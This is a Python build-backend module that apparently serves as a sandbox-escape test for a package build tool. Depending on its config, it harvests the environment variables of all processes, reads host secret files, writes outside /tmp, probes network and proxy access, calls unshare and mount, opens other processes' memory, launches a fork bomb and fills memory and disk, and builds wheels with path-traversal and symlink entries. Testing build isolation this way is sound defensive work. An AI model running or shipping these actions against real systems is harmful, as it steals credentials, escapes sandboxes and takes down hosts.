"""A build backend (PEP 517) that attacks. What it is told is in `told.json`; what came of it goes into the wheel."""

import ctypes
import glob
import json
import os
import socket
import stat
import subprocess
import sys
import time
import urllib.request
import zipfile

with open("told.json") as source:
    TOLD = json.load(source)


def said(act):
    try:
        return "it worked: %r" % (act(),)
    except OSError as error:
        return "refused: %s" % error
    except Exception as error:
        return "refused: %s: %s" % (type(error).__name__, error)


def refused_all(acts):
    """The first that worked, or how the last was refused."""
    answer = "refused: nothing was tried"
    for act in acts:
        answer = said(act)
        if answer.startswith("it worked"):
            break
    return answer


def environment():
    texts = [json.dumps(dict(os.environ))]
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                texts.append(file.read().decode("latin1"))
        except OSError:
            pass
    return "\n".join(texts)


def read(path):
    with open(path, "rb") as file:
        return file.read(20)


def write(path):
    with open(path, "ab") as file:
        file.write(b"x")


def connect(host, port):
    with socket.create_connection((host, port), 3):
        return host


def through_proxy(url):
    with urllib.request.urlopen(url, timeout=5) as answer:
        return answer.status


def system(number, *args):
    if ctypes.CDLL(None, use_errno=True).syscall(number, *args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def linger():
    code = "import os, sys, time; os.setsid(); time.sleep(3600)"
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    subprocess.Popen([sys.executable, "-c", code, TOLD["mark"]], **quiet)


def listen():
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()


def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


def attempts():
    secret = TOLD["secretPort"]
    return {
        "the environment": environment(),
        "secrets of the host": refused_all([lambda p=p: read(p) for p in TOLD["secrets"]]),
        "writing outside of /tmp": refused_all([lambda p=p: write(p + "/" + TOLD["mark"]) for p in TOLD["folders"]]),
        "the program that builds": said(lambda: write("/libs/0/uv")),
        "a connection to this machine": said(lambda: connect("127.0.0.1", secret)),
        "a connection to another machine": said(lambda: connect("203.0.113.7", 443)),
        "this machine through the proxy": said(lambda: through_proxy("http://127.0.0.1:%d/" % secret)),
        "another host through the proxy": said(lambda: through_proxy("https://example.org/")),
        "asking a name server": said(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)),
        "listening": said(listen),
        "namespaces": said(lambda: system(272, 0x10000000)),  # unshare, NEWUSER
        "a mount": said(lambda: system(165, b"x", b"/tmp", b"tmpfs", 0, None)),
        "the builder's descriptors": refused_all([lambda p=p: os.open("/proc/%s/fd/3" % p, os.O_RDWR) for p in others()]),
        "the builder's memory": refused_all(
            [lambda p=p: os.open("/proc/%s/mem" % p, os.O_RDWR) for p in builder()]
        ),
        "a process left behind": said(linger),
    }


def builder():
    """Who stands between us and pid 1: uv, which is ours to disturb, and above it the builder."""
    chain, pid = [], os.getppid()
    while pid > 1:
        chain.append(pid)
        with open("/proc/%d/stat" % pid) as file:
            pid = int(file.read().rpartition(") ")[2].split()[1])
    return chain[-1:]


def build_wheel(folder, config_settings=None, metadata_directory=None):
    act, name = TOLD["act"], TOLD["name"]
    results = {}
    if act == "everything":
        results = attempts()
    elif act == "without end":
        time.sleep(3600)
    elif act == "a fork bomb":
        while True:
            try:
                os.fork()
            except OSError:
                pass
    elif act == "memory":
        kept = []
        while True:
            kept.append(b"x" * 2**26)
    elif act == "disk":
        with open("/tmp/full", "wb") as file:
            while True:
                file.write(b"x" * 2**24)
    elif act == "output":
        while True:
            os.write(1, b"x" * 2**16)
    wheel_name = "other" if act == "another name" else name
    file_name = "%s-1.0-py3-none-any.whl" % wheel_name
    info = "%s-1.0.dist-info" % wheel_name
    with zipfile.ZipFile(os.path.join(folder, file_name), "w") as wheel:
        wheel.writestr(name + ".py", "RESULTS = %r\n" % json.dumps(results))
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % wheel_name)
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "/RECORD", "")
        if act == "paths":
            wheel.writestr("../../../../" + TOLD["mark"], "x")
        if act == "links":
            link = zipfile.ZipInfo("link")
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            wheel.writestr(link, "/etc")
        if act == "scripts":
            wheel.writestr(info + "/entry_points.txt", "[console_scripts]\n../../../%s = os:getcwd\n" % TOLD["mark"])
    return file_name
